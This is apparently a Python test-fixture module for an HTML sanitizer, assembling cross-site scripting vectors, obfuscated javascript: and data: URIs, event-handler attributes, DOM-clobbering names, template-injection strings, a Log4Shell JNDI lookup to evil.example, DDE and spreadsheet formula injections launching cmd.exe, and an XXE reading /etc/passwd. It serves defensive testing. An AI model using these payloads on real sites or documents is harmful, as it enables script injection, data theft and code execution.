"""Markup and text that try to become active: scripts, handlers, addresses, forms, styles, fields, templates."""

from __future__ import annotations

from collections.abc import Callable
from itertools import cycle

from lxml import html

_CODE = "alert(1)"


def _entities(text: str) -> str:
    return "".join(f"&#{ord(c)};" for c in text)


def _hexadecimal(text: str) -> str:
    return "".join(f"&#x{ord(c):06x}" for c in text)


def _alternating(text: str) -> str:
    return "".join(c.upper() if n % 2 else c for n, c in enumerate(text))


_DISGUISES: tuple[Callable[[str], str], ...] = (
    lambda url: url,
    _alternating,
    _entities,
    _hexadecimal,
    lambda url: url[:4] + "&#9;" + url[4:],
    lambda url: url[:4] + "&NewLine;" + url[4:],
    lambda url: url[:4] + "\t\r\n" + url[4:],
    lambda url: "&#1;&#14; " + url,
    lambda url: "\u00a0\u2028" + url,
    lambda url: url.replace(":", "&colon;", 1),
    lambda url: url[:3] + "\0" + url[3:],
)
_ADDRESSES = (
    f"javascript:{_CODE}",
    f"vbscript:{_CODE}",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
    f"livescript:{_CODE}",
    f"feed:javascript:{_CODE}",
    f"view-source:javascript:{_CODE}",
    "file:///etc/passwd",
    "blob:https://evil.example/1",
    "ms-word:ofe|u|https://evil.example/a.docm",
)
_PLACES = (
    '<a href="{}">链接</a>',
    '<img src="{}">',
    '<img data-src="{}" alt="图">',
    '<img srcset="{} 2x">',
    '<picture><source srcset="{}"><img></picture>',
    '<iframe src="{}"></iframe>',
    '<embed src="{}">',
    '<object data="{}"></object>',
    '<form action="{}"><button>交</button></form>',
    '<button formaction="{}">交</button>',
    '<input type="image" src="{}">',
    '<video src="{0}" poster="{0}"></video>',
    '<audio src="{}"></audio>',
    '<area href="{}">',
    '<svg><a xlink:href="{}"><text>字</text></a></svg>',
    '<svg><image href="{}"/></svg>',
    '<svg><use href="{}#x"/></svg>',
    '<math><mi href="{}">字</mi></math>',
    '<table background="{}"><tr><td>格</td></tr></table>',
    "<p style=\"background:url('{}')\">样式</p>",
    '<p style="width:expression({})">样式</p>',
    '<blockquote cite="{}">引</blockquote>',
    '<a ping="{}" href="https://www.example.cn/">链接</a>',
)
_HANDLERS = [
    "onabort",
    "onactivate",
    "onanimationend",
    "onanimationstart",
    "onauxclick",
    "onbeforecopy",
    "onbeforeinput",
    "onbeforetoggle",
    "onbegin",
    "onblur",
    "oncanplay",
    "onclick",
    "oncontextmenu",
    "oncopy",
    "oncut",
    "ondblclick",
    "ondrag",
    "ondrop",
    "onend",
    "onerror",
    "onfocus",
    "onfocusin",
    "onformdata",
    "onfullscreenchange",
    "onhashchange",
    "oninput",
    "oninvalid",
    "onkeydown",
    "onload",
    "onloadstart",
    "onmessage",
    "onmousedown",
    "onmouseenter",
    "onmouseover",
    "onpageshow",
    "onpaste",
    "onplay",
    "onpointerdown",
    "onpopstate",
    "onrepeat",
    "onreset",
    "onresize",
    "onscroll",
    "onsearch",
    "onseeking",
    "onselect",
    "onshow",
    "onsubmit",
    "ontoggle",
    "ontouchstart",
    "ontransitionend",
    "onunload",
    "onwheel",
]
_CARRIERS = ("img src=x", "p", "a href=https://www.example.cn/", "svg", "details open", "input autofocus", "body", "td")

CONTAINED = (
    tuple(
        place.format(disguise(address))
        for (number, address) in enumerate(_ADDRESSES)
        for disguise, place in zip(_DISGUISES, list(_PLACES)[number:] + list(_PLACES), strict=False)
    )
    + tuple(
        f"<{carrier} {handler}{way}>字"
        for handler, carrier, way in zip(
            _HANDLERS,
            cycle(_CARRIERS),
            cycle((f'="{_CODE}"', f"={_CODE}", f"='{_entities(_CODE)}'", f"\f=\n{_CODE}")),
            strict=False,
        )
    )
    + tuple(
        # names that scripts of a page would take for their own variables
        f'<{tag} {key}="{name}">字</{tag}>'
        for tag, key in (("a", "id"), ("form", "name"), ("img", "name"), ("object", "id"))
        for name in (
            "cookie",
            "body",
            "getElementById",
            "location",
            "attributes",
            "__proto__",
            "constructor",
            "children",
        )
    )
)
"""Markup that ends where it began: several stand on one page."""

UNCONTAINED = (
    f"<script>{_CODE}</script>",
    f"<script src=//evil.example/x.js>{_CODE}",
    f"<ScRiPt\n>{_CODE}</sCrIpT >",
    f"<<script>{_CODE}//<</script>",
    f"<scr<script>ipt>{_CODE}</scr</script>ipt>",
    f"<script>{_CODE}",
    f"<svg><script>{_CODE}</script></svg>",
    f"<svg><script href='data:,{_CODE}'/></svg>",
    f"<svg/onload={_CODE}>",
    f"<svg><animate onbegin={_CODE} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{_CODE}>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    f"<math><annotation-xml encoding=text/html><script>{_CODE}</script></annotation-xml></math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CODE}></style></mglyph></table></mtext></math>",
    f"<noscript><p title='</noscript><img src=x onerror={_CODE}>'>",
    f"<template><img src=x onerror={_CODE}></template>",
    f"<textarea></textarea><img src=x onerror={_CODE}>",
    f"<title></title><img src=x onerror={_CODE}>",
    f"<xmp><img src=x onerror={_CODE}></xmp>",
    f"<style><!--</style><img src=x onerror={_CODE}>--></style>",
    f"<style>@import 'javascript:{_CODE}'; p{{background:url(javascript:{_CODE})}}</style>",
    f"<!--><script>{_CODE}</script>-->",
    f"<!--[if IE]><script>{_CODE}</script><![endif]-->",
    f"<![CDATA[><script>{_CODE}</script>]]>",
    f"<?xml-stylesheet href='javascript:{_CODE}'?>",
    "<?php system('id'); ?>",
    "<% eval request('x') %>",
    f"<base href=\"javascript:{_CODE}//\">",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CODE}'>",
    "<meta http-equiv=refresh content='0;url=//evil.example/'>",
    "<meta http-equiv=set-cookie content='a=b'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    f"<link rel=import href='data:text/html,<script>{_CODE}</script>'>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    f"<frameset onload={_CODE}><frame src='javascript:{_CODE}'></frameset>",
    f"<isindex action='javascript:{_CODE}'>",
    f"<marquee onstart={_CODE}>字</marquee>",
    f"<keygen autofocus onfocus={_CODE}>",
    f"<applet code=javascript:{_CODE}></applet>",
    f"<xml><x:script xmlns:x='http://www.w3.org/1999/xhtml'>{_CODE}</x:script></xml>",
    f"<img \"\"\"><script>{_CODE}</script>\">",
    f"<img src='x' onerror\x0c={_CODE} `/>",
    f"<a href='x' style='x:\\65xpression({_CODE})'>字</a>",
    f"+ADw-script+AD4-{_CODE}+ADw-/script+AD4-",
    f"\x1b$B<script>{_CODE}</script>\x1b(B",
    f"<script\u2028>{_CODE}</script\u2029>",
    f"<p>&lt;script&gt;{_CODE}&lt;/script&gt;</p>",
    f"<p>&amp;lt;img src=x onerror={_CODE}&amp;gt;</p>",
    f"<p>[点这里](javascript:{_CODE}) ![图](https://evil.example/track.png)</p>",
    f"<p>&lt;a href=javascript:{_CODE}&gt;点&lt;/a&gt;</p>",
    f"<p><b>&lt;<i>script</i>&gt;</b>{_CODE}</p>",
    f"<plaintext><script>{_CODE}</script>",
)  # fmt: skip
"""Markup that may swallow what follows: each stands on a page of its own."""

TEXTS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href='javascript:alert(1)'>点</a>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "-->\"'><script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[点](javascript:alert(1))",
    "[点]( javascript&colon;alert(1) )",
    "![图](https://evil.example/track.png)",
    "[引用]: javascript:alert(1)",
    "[甲][引用]",
    "<javascript:alert(1)>",
    "<https://evil.example/>",
    "https://evil.example/ www.evil.example mail@evil.example",
    "# 一级标题",
    "甲\n===",
    "甲\n---\n乙",
    "```\n代码\n```",
    "~~~html\n<script>",
    "    缩进的代码",
    "> 引用",
    "* 列表\n* 列表",
    "1) 编号",
    "| 甲 | 乙 |\n|---|---|\n| 丙 | 丁 |",
    "甲 | 乙",
    "**粗** __粗__ *斜* _斜_ ~~删~~ `码`",
    "甲\\",
    "---\ntitle: 另一期\n---",
    "%YAML 1.2\n---",
    "{{7*7}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(9) %}甲{% endfor %}",
    "{# 注释 #}",
    "${7*7} #{7*7} <%= 7*7 %> @(7*7) *{7*7}",
    "${jndi:ldap://evil.example/a}",
    "</w:t></w:r></w:p><w:p><w:r><w:t>另一段",
    "]]></w:t><w:altChunk r:id='rId1'/>",
    '{ INCLUDETEXT "c:\\\\secret.txt" }',
    '{ INCLUDEPICTURE "https://evil.example/track.png" \\d }',
    '{ DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe" }',
    '{ HYPERLINK "file:///etc/passwd" }',
    "{ TOC \\o } { PAGE } { = 7*7 }",
    "<w:instrText>DDEAUTO calc</w:instrText>",
    "<?xml version='1.0'?><!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "&amp; &copy; &#x41; &nbsp;",
    "=cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "甲\x1b[31m红\x1b[0m\r\n另一行\x07",
    "甲\u202e乙\u2066丙\u200b丁\ufeff",
)
"""Text that means something to whoever prints it carelessly."""


def leaves(markup: str) -> int:
    """How many nodes the library finds in markup, without anybody who guards it."""
    return sum(1 for _ in html.fromstring(markup).iter())
